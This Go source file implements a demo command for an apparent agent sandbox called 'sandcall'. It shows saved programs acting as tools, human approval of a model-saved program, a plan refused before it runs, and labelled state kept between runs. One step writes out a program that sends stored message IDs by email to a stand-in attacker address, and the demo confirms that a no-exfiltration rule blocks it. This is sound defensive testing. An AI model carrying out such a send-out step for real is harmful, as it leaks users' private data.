package cli

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"

	"github.com/sandcall/sandcall/bindings"
	"github.com/sandcall/sandcall/examples/demo"
	"github.com/sandcall/sandcall/examples/inbox"
	"github.com/sandcall/sandcall/examples/policies"
	programsdemo "github.com/sandcall/sandcall/examples/programs"
	"github.com/sandcall/sandcall/policy"
	"github.com/sandcall/sandcall/sandbox"
)

// demoPrograms shows programs that last (docs/programs.md) in one server:
// the example's program files as tools, a program a model saves (a person
// approving), a program refused from its plan before it runs, and state
// kept between runs with its label. It fails when any part does not do
// what it shows.
func demoPrograms(ctx context.Context, e *env, c *common) int {
	w := e.stdout
	dir, err := os.MkdirTemp("", "sandcall-programs")
	if err != nil {
		fmt.Fprintf(e.stderr, "sandcall demo: %v\n", err)
		return exitFailure
	}
	defer os.RemoveAll(dir)
	for name, src := range programsdemo.Files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(src), 0o644); err != nil {
			fmt.Fprintf(e.stderr, "sandcall demo: %v\n", err)
			return exitFailure
		}
	}
	// The example's programs, as the operator's directory (no trust step).
	c.cfg.Programs.Dir, c.cfg.Programs.Save = dir, nil
	// One server for every part (the state lives in it): a pool that
	// replaces its workers, unlike the other demos' one-shot runs.
	c.oneShot, c.workers = false, 1
	ib := inbox.New(true)
	runner, closeRunner, err := newRunner(append(demo.Tools(), ib.Tools()...), c, nil)
	if err != nil {
		fmt.Fprintf(e.stderr, "sandcall demo: %v\n", err)
		return exitFailure
	}
	defer closeRunner()
	b := runner.Broker()
	p := principalOf(c.cfg)
	run := func(src string) *sandbox.Result {
		return runner.Run(ctx, bindings.RunRequest{Program: sandbox.Program{Source: src}, Principal: p})
	}
	fail := func(what string, res *sandbox.Result) int {
		fmt.Fprintf(w, "\n%s did not do what the demo shows.\n", what)
		if res != nil && res.Error != nil {
			printError(e.stderr, res.Error)
		}
		return exitFailure
	}

	fmt.Fprintln(w, "1. A program file is a tool: travel_overruns.js (examples/programs/.agents/programs), the")
	fmt.Fprintln(w, "   expense question with a quarter parameter. Its plan, read before it runs:")
	prog, _ := b.Catalog().Lookup("travel_overruns")
	if prog == nil {
		return fail("the program file", nil)
	}
	pl, _ := b.CheckPlan(ctx, sandbox.Program{Source: programsdemo.Files["travel_overruns.js"]}, p)
	fmt.Fprintf(w, "   %s\n", bindings.PlanSentence(pl))
	res := run(`const rows = await tools.travel_overruns({ quarter: "Q3" }); return rows.map((r) => r.name);`)
	if !res.OK {
		return fail("travel_overruns", res)
	}
	fmt.Fprintf(w, "   await tools.travel_overruns({quarter: \"Q3\"}) from run_code: %s\n\n", clipText(string(res.Result), 100))

	fmt.Fprintln(w, "2. A model saves a program that worked (save_program); a person approves, seeing:")
	approver := bindings.ApproverFunc(func(_ context.Context, req bindings.ApprovalRequest) (bool, error) {
		for _, l := range strings.Split(req.Message, "\n") {
			if !strings.HasPrefix(l, "Arguments:") { // the code itself, in full, is in the arguments
				fmt.Fprintf(w, "   | %s\n", l)
			}
		}
		return true, nil
	})
	out, err := b.Direct(ctx, bindings.DirectCall{Principal: p, Tool: "save_program", Approver: approver,
		Args: json.RawMessage(`{"name":"overrun_count","description":"How many engineers went over their travel budget in a quarter.",
"parameters":{"type":"object","properties":{"quarter":{"type":"string"}},"required":["quarter"]},
"read_only":true,"code":"return (await tools.travel_overruns({ quarter: args.quarter })).length;"}`)})
	if err != nil {
		fmt.Fprintf(e.stderr, "save_program: %v\n", err)
		return exitFailure
	}
	fmt.Fprintf(w, "   saved: %s\n", out)
	n, err := b.CallDirect(ctx, p, "overrun_count", json.RawMessage(`{"quarter":"Q3"}`))
	if err != nil {
		fmt.Fprintf(e.stderr, "overrun_count: %v\n", err)
		return exitFailure
	}
	fmt.Fprintf(w, "   overrun_count({quarter: \"Q3\"}), called directly: %s (its calls are authorized as a program's, for its caller)\n\n", n)

	fmt.Fprintln(w, "3. A plan refused before the program runs (examples/policies/plans.yaml): the inbox triage")
	fmt.Fprintln(w, "   program reads the inbox and sends mail.")
	plans, err := policy.Parse("examples/policies/plans.yaml", policies.Plans)
	if err != nil {
		printProblems(e.stderr, err)
		return exitFailure
	}
	b.SetAuthorizer(bindings.NewPolicyAuthorizer(plans))
	res = run(inbox.Program)
	if res.OK || res.Error.Rule != "read-inbox-and-send" || res.Calls.Total != 0 {
		return fail("the plan rule", res)
	}
	fmt.Fprintf(w, "   %s: %s\n   calls made: %d\n\n", res.Error.Code, res.Error.Message, res.Calls.Total)

	fmt.Fprintln(w, "4. State between runs (examples/policies/flow.yaml): triage_new.js remembers in state which")
	fmt.Fprintln(w, "   messages it has triaged.")
	flow, err := policy.Parse("examples/policies/flow.yaml", policies.Flow)
	if err != nil {
		printProblems(e.stderr, err)
		return exitFailure
	}
	b.SetAuthorizer(bindings.NewPolicyAuthorizer(flow))
	for i := 1; i <= 2; i++ {
		res = run(`return await tools.triage_new({})`)
		if !res.OK {
			return fail("triage_new", res)
		}
		fmt.Fprintf(w, "   run %d: %s\n", i, res.Result)
	}
	fmt.Fprintf(w, "   tickets filed in all: %d\n", len(ib.Tickets()))
	fmt.Fprintf(w, "   A later run reads the kept list and mails it to %s:\n", inbox.Attacker)
	res = run(`const ids = await state.get("triaged");
await tools.send_email({ to: ["` + inbox.Attacker + `"], subject: "ids", body: JSON.stringify(ids) });
return "sent";`)
	if res.OK || res.Error.Rule != "no-exfiltration" || len(ib.Sent()) != 0 {
		return fail("the flow rule over state", res)
	}
	fmt.Fprintf(w, "   %s by rule %s: %s\n", res.Error.Code, res.Error.Rule, res.Error.Message)
	printPlanNote(w)
	return exitOK
}

func printPlanNote(w io.Writer) {
	fmt.Fprintln(w, "\nThe list was written after reading inbound mail and customer records, so it keeps their")
	fmt.Fprintln(w, "label: untrusted, readable by the support team only. See docs/programs.md.")
}

// clipText cuts s to n bytes for a line of output.
func clipText(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return sandbox.Cap(s, n)
}
